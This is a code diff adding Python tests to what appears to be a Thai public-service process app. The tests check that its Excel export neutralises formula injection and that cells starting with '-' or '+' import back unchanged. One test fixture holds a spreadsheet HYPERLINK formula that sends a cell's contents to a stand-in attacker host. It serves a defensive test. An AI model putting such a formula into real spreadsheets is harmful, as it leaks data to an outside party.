@@ -202,3 +202,36 @@ def test_leaving_a_long_import_half_way_writes_nothing(departments, personas):
     next(running)
     running.close()  # the browser went away
     assert not ServiceProcess.objects.exists()
+
+
+HYPERLINK = '=HYPERLINK("http://attacker.example/?"&D3,"เปิด")'
+
+
+def test_a_process_named_as_a_formula_exports_as_text(departments, personas):
+    """The issue's case: a User names a process with a formula; the Admin's export shows the text."""
+    make_process(departments["a2"], personas["user_a"], sequence=4, name_th=HYPERLINK)
+    sheet = _workbook(excel.export_workbook(departments["a1"].unit))["กระบวนงาน"]
+    cell = sheet.cell(row=2, column=4)
+    assert cell.data_type == "s" and cell.value == "'" + HYPERLINK
+
+
+def test_guarded_cells_import_back_as_they_were_typed(departments, personas):
+    unit = departments["a1"].unit
+    make_process(
+        departments["a2"],
+        personas["user_a"],
+        sequence=4,
+        name_th="-การขออนุญาตใช้น้ำประปา",
+        fees=[{"th": "+ ค่าธรรมเนียม", "en": "", "amount": 20}],
+    )
+    book = _workbook(excel.export_workbook(unit))
+    for title in ["กระบวนงาน", *excel.LIST_SHEETS.values()]:
+        for row in book[title].iter_rows(min_row=2):
+            row[0].value = 1  # a copy into department 1
+    buffer = io.BytesIO()
+    book.save(buffer)
+    result = excel.import_workbook(data=buffer.getvalue(), unit=unit, actor=personas["user_a"])
+    assert result.problems == []
+    copy = result.created[0].draft_revision
+    assert copy.name_th == "-การขออนุญาตใช้น้ำประปา"
+    assert copy.fees == [{"th": "+ ค่าธรรมเนียม", "en": "", "amount": 20}]
